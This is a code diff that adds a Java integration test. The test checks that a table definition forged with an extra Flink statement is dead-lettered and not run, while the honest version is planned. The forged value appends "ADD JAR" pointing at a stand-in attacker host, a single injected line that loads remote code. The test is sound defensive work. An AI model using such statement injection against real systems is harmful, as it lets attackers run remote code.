@@ -207,6 +207,69 @@ class PlanningIT {
         return QueryAnalysis.streamable("[PREVIEWED]");
     }
 
+    /**
+     * A definition ddl-service would not have written (its source's statement adds a jar): not
+     * planned, so its SQL never reaches Flink here; dead-lettered with the reason.
+     */
+    @Test
+    void aForgedDefinitionIsDeadLetteredAndNotRun() throws Exception {
+        String table = "default_catalog.it.t_" + UUID.randomUUID().toString().replace("-", "");
+        TableDefinition honest =
+                definition(
+                        table,
+                        1,
+                        new TableDefinition.Freshness(5, "MINUTE"),
+                        TableDefinition.Status.ACTIVE);
+        var source = honest.sources().get(0);
+        TableDefinition forged =
+                new TableDefinition(
+                        honest.table(),
+                        honest.version(),
+                        honest.kind(),
+                        honest.statement(),
+                        honest.columns(),
+                        honest.primaryKey(),
+                        honest.partitionKeys(),
+                        honest.distribution(),
+                        honest.options(),
+                        honest.comment(),
+                        honest.freshness(),
+                        honest.refreshMode(),
+                        honest.query(),
+                        List.of(
+                                new TableDefinition.SourceTable(
+                                        source.table(),
+                                        source.kind(),
+                                        source.version(),
+                                        source.statement()
+                                                + "; ADD JAR 'http://attacker.example/evil.jar'",
+                                        source.columns(),
+                                        source.partitionKeys())),
+                        honest.status(),
+                        honest.resumeOptions(),
+                        honest.createdAt(),
+                        honest.updatedAt(),
+                        honest.requestId());
+        try (TopicProbe probe =
+                new TopicProbe().tail(Topics.REFRESH_PLANS).tail(Topics.DEAD_LETTERS)) {
+            send(probe, forged);
+            ConsumerRecord<String, String> dead =
+                    probe.await(
+                            r -> r.topic().equals(Topics.DEAD_LETTERS) && table.equals(r.key()),
+                            Duration.ofSeconds(60));
+            assertThat(TopicProbe.header(dead, "dead-letter-reason"))
+                    .contains("does not write", "2 statements where there is one", "not run");
+
+            send(probe, honest); // the same version, as ddl-service wrote it: planned
+            ConsumerRecord<String, String> planned =
+                    probe.await(
+                            r -> r.topic().equals(Topics.REFRESH_PLANS) && table.equals(r.key()),
+                            Duration.ofSeconds(60));
+            assertThat(JSON.readTree(planned.value()).path("definitionVersion").asLong())
+                    .isEqualTo(1);
+        }
+    }
+
     private void send(TopicProbe probe, TableDefinition definition) {
         probe.send(
                 Topics.TABLE_DEFINITIONS,
